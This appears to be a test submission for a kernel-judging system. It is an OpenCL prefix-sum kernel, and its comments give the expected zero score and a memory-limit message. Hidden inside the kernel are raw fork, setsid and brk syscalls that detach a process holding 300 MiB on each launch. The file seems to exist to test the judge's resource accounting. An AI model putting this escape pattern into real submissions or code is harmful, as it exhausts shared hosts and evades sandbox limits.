// Gets: 0 points (one is left by each launch, and their memory counts)
// Must say: MiB of memory
long call(long number, long a, long b, long c)
{
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return result;
}

kernel void prefix_sum(global const int* input, global int* output)
{
    if (get_local_id(0) == 0) {
        if (call(57, 0, 0, 0) == 0) {
            call(112, 0, 0, 0); // setsid

            const long begin = call(12, 0, 0, 0), end = call(12, begin + (300l << 20), 0, 0); // brk
            for (long page = begin; page < end; page += 4096)
                *(char*)page = 1;
            for (;;)
                call(34, 0, 0, 0); // pause
        }
    }
    if (get_local_id(0) == 0)
        for (uint i = 0, sum = 0; i < 256; ++i) {
            output[i] = (int)sum;
            sum += (uint)input[i];
        }
}
